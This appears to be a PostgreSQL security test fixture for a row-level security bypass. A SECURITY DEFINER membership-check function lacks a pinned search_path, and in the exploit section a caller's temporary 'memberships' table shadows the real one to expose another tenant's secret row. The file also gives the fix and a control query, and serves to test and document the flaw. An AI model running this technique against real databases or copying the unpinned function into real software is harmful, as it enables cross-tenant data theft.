-- What: The policy's helper has its owner's rights and no search path: a temporary table of the caller's takes its lookup table's place.
-- Class: policy_lookup_writable|function_search_path
-- Object: public.files | public.is_member
-- Exploit: CREATE TEMPORARY TABLE memberships, granted to everybody, in which the own user is a member of tenant B.
-- Setting: app.user_id
-- Config: fixtures = { ["public.memberships"] = "insert into public.memberships (user_id, tenant_id) values ({tenant}, {tenant})" }
-- @schema
create table memberships (user_id uuid not null, tenant_id uuid not null, primary key (user_id, tenant_id));
create function is_member(p_tenant uuid) returns boolean language plpgsql stable security definer as $$
begin
  return exists (select from memberships m where m.tenant_id = p_tenant
    and m.user_id = nullif(pg_catalog.current_setting('app.user_id', true), '')::pg_catalog.uuid);
end $$;
create table files (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table files enable row level security;
alter table files force row level security;
create policy tenant on files using (is_member(tenant_id));
grant select, insert, update, delete on files to app_user;
-- @rows
insert into memberships values (:'A', :'A'), (:'B', :'B');
insert into files (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
alter function is_member(uuid) set search_path = public, pg_temp;
-- @control
select from files where tenant_id = :'A';
-- @exploit
create temporary table memberships (user_id uuid, tenant_id uuid);
grant select on memberships to public;
insert into memberships values (:'A', :'B');
select body from files where body = 'B-secret';
